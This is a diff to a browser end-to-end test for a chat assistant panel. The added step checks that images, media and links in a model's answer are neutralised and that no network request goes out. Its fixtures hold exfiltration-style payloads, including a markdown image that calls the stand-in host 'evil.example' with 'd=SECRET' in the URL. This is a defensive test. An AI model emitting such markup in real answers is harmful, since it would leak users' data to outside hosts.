@@ -47,6 +47,28 @@ test('is asked, answers word by word, refuses in words, and begins anew', async 
     await expectAccessible(page);
   });
 
+  await test.step('pictures and addresses in an answer are named, and nothing is fetched or linked', async () => {
+    const fetched: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) fetched.push(request.url());
+    });
+    engine.plays({
+      texts: [
+        '![a chart](https://evil.example/p.png?d=SECRET)\n\n',
+        '<img src="https://evil.example/q.png"> <video src="https://evil.example/v.mp4"></video>\n\n',
+        '[click here](https://evil.example/l) and <https://evil.example/m>, ![r][1]\n\n',
+        '[1]: https://evil.example/r.png\n\nThat is all.',
+      ],
+    });
+    await ask('Show me a chart.');
+    const answer = drawer.getByRole('article').last();
+    await expect(answer.getByText('That is all.')).toBeVisible();
+    await expect(answer.getByText('a chart')).toBeVisible();
+    await expect(answer.getByText('click here (https://evil.example/l)')).toBeVisible();
+    await expect(answer.locator('img, video, iframe, [href*="evil.example"]')).toHaveCount(0);
+    expect(fetched).toEqual([]);
+  });
+
   await test.step('closing it ends the engine’s stream, and what had come is dropped from the page', async () => {
     engine.plays({ texts: ['half of it', 'never'], eachAfter: () => new Promise(() => {}) });
     await ask('And calloc?');
